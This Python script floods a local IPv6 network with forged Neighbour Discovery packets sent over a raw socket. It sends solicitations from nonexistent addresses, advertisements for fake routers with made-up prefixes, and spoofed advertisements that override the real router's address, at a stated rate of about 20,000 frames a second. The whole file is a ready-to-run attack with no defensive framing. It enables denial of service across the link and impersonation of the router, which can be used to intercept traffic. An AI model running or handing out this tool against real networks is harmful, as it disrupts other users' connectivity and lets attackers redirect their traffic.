"""Flood a link with lies of Neighbour Discovery:

    ip6_flood.py INTERFACE SECONDS TARGET ROUTER

Solicitations of TARGET from addresses that do not exist, advertisements of routers
that do not, with prefixes, and advertisements that claim ROUTER; some 20,000 a
second. Prints how many frames were sent.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

GROUP = bytes.fromhex("333300000001")


def frame(mac, src, dst, message):
    """An Ethernet frame with a message of ICMPv6, its checksum filled in."""
    source, target = (ipaddress.IPv6Address(a).packed for a in (src, dst))
    pseudo = source + target + struct.pack("!II", len(message), 58)
    data = pseudo + message + b"\0" * (len(message) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    message = message[:2] + struct.pack("!H", ~total & 0xFFFF) + message[4:]
    header = struct.pack("!IHBB", 6 << 28, len(message), 58, 255)
    return GROUP + mac + b"\x86\xdd" + header + source + target + message


def some_mac():
    return bytes([2] + [random.randrange(256) for _ in range(5)])


def solicitation(target):
    mac = some_mac()
    message = b"\x87\0\0\0\0\0\0\0" + ipaddress.IPv6Address(target).packed
    src = "fd77::bad:%x:%x" % (random.randrange(65536), random.randrange(65536))
    return frame(mac, src, "ff02::1", message + b"\1\1" + mac)


def router():
    mac = some_mac()
    prefix = struct.pack("!HHHH", 0x2001, 0xDB8, random.randrange(65536), 0)
    message = b"\x86\0\0\0\x40\x08\x07\x08" + bytes(8) + b"\1\1" + mac
    message += b"\3\4\x40\xc0" + struct.pack("!IIQ", 1, 1, 0)[:12] + prefix + bytes(8)
    src = "fe80::%x:%x" % (random.randrange(65536), random.randrange(1, 65536))
    return frame(mac, src, "ff02::1", message)


def claim(target):
    mac = some_mac()
    message = b"\x88\0\0\0\xa0\0\0\0" + ipaddress.IPv6Address(target).packed
    return frame(mac, target, "ff02::1", message + b"\2\1" + mac)


def main():
    interface, seconds, ours, other = sys.argv[1], float(sys.argv[2]), *sys.argv[3:5]
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    card.bind((interface, 0))
    frames = [f() for _ in range(2000) for f in (
        lambda: solicitation(ours), router, lambda: claim(other))]
    end = time.monotonic() + seconds
    count = 0
    while time.monotonic() < end:
        try:
            card.send(frames[count % len(frames)])
        except OSError:  # the queue is full
            time.sleep(0.001)
        count += 1
        if count % 200 == 0:
            time.sleep(0.01)
    print(count)


main()
